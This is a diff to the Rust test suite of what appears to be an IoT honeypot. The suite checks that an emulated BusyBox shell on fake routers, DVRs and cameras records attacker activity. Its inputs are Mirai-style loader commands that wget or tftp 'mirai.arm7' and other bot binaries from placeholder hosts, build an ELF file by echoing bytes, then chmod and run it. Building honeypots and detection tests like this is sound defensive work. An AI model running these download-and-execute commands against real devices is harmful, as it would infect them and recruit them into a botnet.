@@ -25,11 +25,17 @@ fn mirai_scanner_and_loader_flow() {
     let mut sh = shell("dvr-xiongmai");
     for cmd in ["enable", "system", "shell"] {
         let o = run(&mut sh, cmd);
-        assert_eq!(String::from_utf8_lossy(&o.output), format!("-sh: {cmd}: not found\n"));
+        assert_eq!(
+            String::from_utf8_lossy(&o.output),
+            format!("-sh: {cmd}: not found\n")
+        );
         assert!(!o.known());
     }
     assert_eq!(out(&mut sh, "sh"), "");
-    assert_eq!(out(&mut sh, "/bin/busybox ECCHI"), "ECCHI: applet not found\n");
+    assert_eq!(
+        out(&mut sh, "/bin/busybox ECCHI"),
+        "ECCHI: applet not found\n"
+    );
     let ps = out(&mut sh, "/bin/busybox ps");
     assert!(ps.starts_with("  PID USER"), "{ps}");
     assert!(ps.contains("/var/Sofia"));
@@ -48,7 +54,10 @@ fn mirai_scanner_and_loader_flow() {
     let o = run(&mut sh, "dd bs=52 count=1 if=/bin/echo");
     assert_eq!(&o.output[..4], b"\x7fELF");
     let text = String::from_utf8_lossy(&o.output[52..]).into_owned();
-    assert!(text.starts_with("1+0 records in\n1+0 records out\n52 bytes (52B) copied"), "{text}");
+    assert!(
+        text.starts_with("1+0 records in\n1+0 records out\n52 bytes (52B) copied"),
+        "{text}"
+    );
     // Delivery 1: wget.
     let o = run(&mut sh, "/bin/busybox wget http://198.51.100.7:80/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper");
     assert_eq!(
@@ -60,8 +69,13 @@ fn mirai_scanner_and_loader_flow() {
         }
     );
     // Delivery 2: tftp.
-    let o = run(&mut sh, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 198.51.100.7");
-    assert!(matches!(&o.effects[0], Effect::Download { url, tool: "tftp", dest } if url == "tftp://198.51.100.7/mirai.arm7" && dest == "dvrHelper"));
+    let o = run(
+        &mut sh,
+        "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 198.51.100.7",
+    );
+    assert!(
+        matches!(&o.effects[0], Effect::Download { url, tool: "tftp", dest } if url == "tftp://198.51.100.7/mirai.arm7" && dest == "dvrHelper")
+    );
     // Delivery 3: echo, byte by byte, then run it.
     let elf: Vec<u8> = (0..300u32).map(|i| (i * 37 % 256) as u8).collect();
     let mut payload = b"\x7fELF".to_vec();
@@ -71,11 +85,18 @@ fn mirai_scanner_and_loader_flow() {
         let o = run(&mut sh, &format!("/bin/busybox echo -ne '{hex}' >> upnp && /bin/busybox echo -ne '\\x45\\x43\\x43\\x48\\x49'"));
         assert_eq!(o.output, b"ECCHI");
     }
-    let o = run(&mut sh, "/bin/busybox chmod 777 upnp; ./upnp; ./dvrHelper telnet.arm7; /bin/busybox IHCCE");
-    let written: Vec<_> = o.effects.iter().filter_map(|e| match e {
-        Effect::FileWritten { path, bytes } => Some((path.clone(), bytes.clone())),
-        _ => None,
-    }).collect();
+    let o = run(
+        &mut sh,
+        "/bin/busybox chmod 777 upnp; ./upnp; ./dvrHelper telnet.arm7; /bin/busybox IHCCE",
+    );
+    let written: Vec<_> = o
+        .effects
+        .iter()
+        .filter_map(|e| match e {
+            Effect::FileWritten { path, bytes } => Some((path.clone(), bytes.clone())),
+            _ => None,
+        })
+        .collect();
     assert_eq!(written.len(), 1, "{:?}", o.effects);
     assert_eq!(written[0].0, "/var/upnp");
     assert_eq!(**written[0].1, payload, "the dropped file is byte-exact");
@@ -87,13 +108,31 @@ fn mirai_scanner_and_loader_flow() {
 fn while_read_and_pipes() {
     let mut sh = shell("router-tplink");
     run(&mut sh, "cd /tmp; printf 'a b\\nc\\n' > .s");
-    assert_eq!(out(&mut sh, "while read i; do echo $i; done < .s"), "a b\nc\n");
+    assert_eq!(
+        out(&mut sh, "while read i; do echo $i; done < .s"),
+        "a b\nc\n"
+    );
     assert_eq!(out(&mut sh, "cat .s | grep c | wc -l"), "1\n");
     assert_eq!(out(&mut sh, "echo `echo hi` $(echo there)"), "hi there\n");
     assert_eq!(out(&mut sh, "X=\"1  2\"; echo $X \"$X\""), "1 2 1  2\n");
-    assert_eq!(out(&mut sh, "false || echo yes && echo also; true && false || echo no"), "yes\nalso\nno\n");
-    assert_eq!(out(&mut sh, "for d in /tmp /var; do echo $d; done"), "/tmp\n/var\n");
-    assert_eq!(out(&mut sh, "if [ -f /tmp/.s ]; then echo file; else echo none; fi"), "file\n");
+    assert_eq!(
+        out(
+            &mut sh,
+            "false || echo yes && echo also; true && false || echo no"
+        ),
+        "yes\nalso\nno\n"
+    );
+    assert_eq!(
+        out(&mut sh, "for d in /tmp /var; do echo $d; done"),
+        "/tmp\n/var\n"
+    );
+    assert_eq!(
+        out(
+            &mut sh,
+            "if [ -f /tmp/.s ]; then echo file; else echo none; fi"
+        ),
+        "file\n"
+    );
     assert_eq!(out(&mut sh, "cat /nope 2>/dev/null; echo $?"), "1\n");
     assert_eq!(out(&mut sh, "cat /nope 2>&1 | wc -c"), "51\n");
     assert_eq!(out(&mut sh, "uname -m"), "mips\n");
@@ -102,16 +141,40 @@ fn while_read_and_pipes() {
 #[test]
 fn busybox_messages() {
     let mut sh = shell("router-tplink");
-    assert_eq!(out(&mut sh, "cat /x"), "cat: can't open '/x': No such file or directory\n");
-    assert_eq!(out(&mut sh, "rm /x"), "rm: can't remove '/x': No such file or directory\n");
+    assert_eq!(
+        out(&mut sh, "cat /x"),
+        "cat: can't open '/x': No such file or directory\n"
+    );
+    assert_eq!(
+        out(&mut sh, "rm /x"),
+        "rm: can't remove '/x': No such file or directory\n"
+    );
     assert_eq!(out(&mut sh, "rm -f /x"), "");
-    assert_eq!(out(&mut sh, "cp /x /y"), "cp: can't stat '/x': No such file or directory\n");
-    assert_eq!(out(&mut sh, "chmod 777 /x"), "chmod: /x: No such file or directory\n");
-    assert_eq!(out(&mut sh, "cd /x"), "-sh: cd: can't cd to /x: No such file or directory\n");
+    assert_eq!(
+        out(&mut sh, "cp /x /y"),
+        "cp: can't stat '/x': No such file or directory\n"
+    );
+    assert_eq!(
+        out(&mut sh, "chmod 777 /x"),
+        "chmod: /x: No such file or directory\n"
+    );
+    assert_eq!(
+        out(&mut sh, "cd /x"),
+        "-sh: cd: can't cd to /x: No such file or directory\n"
+    );
     assert_eq!(out(&mut sh, "./x"), "-sh: ./x: not found\n");
-    assert_eq!(out(&mut sh, "mkdir /tmp"), "mkdir: can't create directory '/tmp': File exists\n");
-    assert_eq!(out(&mut sh, "echo 'unterminated"), "-sh: syntax error: unexpected end of file\n");
-    assert_eq!(out(&mut sh, "kill -9 99999"), "-sh: kill: can't kill pid 99999: No such process\n");
+    assert_eq!(
+        out(&mut sh, "mkdir /tmp"),
+        "mkdir: can't create directory '/tmp': File exists\n"
+    );
+    assert_eq!(
+        out(&mut sh, "echo 'unterminated"),
+        "-sh: syntax error: unexpected end of file\n"
+    );
+    assert_eq!(
+        out(&mut sh, "kill -9 99999"),
+        "-sh: kill: can't kill pid 99999: No such process\n"
+    );
     assert!(out(&mut sh, "busybox").contains("Currently defined functions:"));
     assert!(out(&mut sh, "ls -l /bin").contains("sh -> busybox"));
     assert_eq!(out(&mut sh, "exit").len(), 0);
@@ -122,14 +185,28 @@ fn scripts_run_inside_the_emulation() {
     let mut sh = shell("dvr-hisilicon");
     run(&mut sh, "cd /tmp; echo 'cd /tmp; wget http://203.0.113.5/a.arm; wget http://203.0.113.5/a.mips; tftp -g -r a.x86 203.0.113.5' > bins.sh");
     let o = run(&mut sh, "sh bins.sh");
-    let urls: Vec<_> = o.effects.iter().filter_map(|e| match e {
-        Effect::Download { url, .. } => Some(url.as_str()),
-        _ => None,
-    }).collect();
-    assert_eq!(urls, ["http://203.0.113.5/a.arm", "http://203.0.113.5/a.mips", "tftp://203.0.113.5/a.x86"]);
+    let urls: Vec<_> = o
+        .effects
+        .iter()
+        .filter_map(|e| match e {
+            Effect::Download { url, .. } => Some(url.as_str()),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        urls,
+        [
+            "http://203.0.113.5/a.arm",
+            "http://203.0.113.5/a.mips",
+            "tftp://203.0.113.5/a.x86"
+        ]
+    );
     // Download tools the device lacks are still recorded.
     let o = run(&mut sh, "curl -O http://203.0.113.5/c.sh");
-    assert!(o.effects.iter().any(|e| matches!(e, Effect::Download { tool: "curl", .. })));
+    assert!(o
+        .effects
+        .iter()
+        .any(|e| matches!(e, Effect::Download { tool: "curl", .. })));
     assert_eq!(String::from_utf8_lossy(&o.output), "-sh: curl: not found\n");
 }
 
@@ -137,15 +214,31 @@ fn scripts_run_inside_the_emulation() {
 fn limits_hold() {
     let mut sh = shell("router-tplink");
     let o = run(&mut sh, "while true; do echo x; done");
-    assert!(o.effects.iter().any(|e| matches!(e, Effect::Limit { limit: "steps_per_line", .. })));
+    assert!(o.effects.iter().any(|e| matches!(
+        e,
+        Effect::Limit {
+            limit: "steps_per_line",
+            ..
+        }
+    )));
     let o = run(&mut sh, "while true; do :; done");
     assert!(o.effects.iter().any(|e| matches!(e, Effect::Limit { .. })));
     let mut small = {
         let p = Profile::load("router-tplink").unwrap();
         let persona = p.instantiate(&Deployment::from_seed([7; 32]));
-        Shell::new(System::new(persona, NOW), "root", Limits { vfs_bytes: 4096, ..Limits::default() })
+        Shell::new(
+            System::new(persona, NOW),
+            "root",
+            Limits {
+                vfs_bytes: 4096,
+                ..Limits::default()
+            },
+        )
     };
-    let o = run(&mut small, "cd /tmp; i=0; while true; do echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa >> f; done");
+    let o = run(
+        &mut small,
+        "cd /tmp; i=0; while true; do echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa >> f; done",
+    );
     assert!(String::from_utf8_lossy(&o.output).contains("No space left on device"));
     assert!(small.vfs_used() <= 4096);
 }
@@ -153,7 +246,10 @@ fn limits_hold() {
 #[test]
 fn files_left_behind_are_reported_at_the_end() {
     let mut sh = shell("camera-hikvision");
-    run(&mut sh, "echo -ne '#!/bin/sh\\nwget x' > /tmp/a.sh; echo hi > /tmp/b");
+    run(
+        &mut sh,
+        "echo -ne '#!/bin/sh\\nwget x' > /tmp/a.sh; echo hi > /tmp/b",
+    );
     let fin = sh.finish();
     assert_eq!(fin.len(), 2);
     assert!(sh.finish().is_empty(), "reported once");
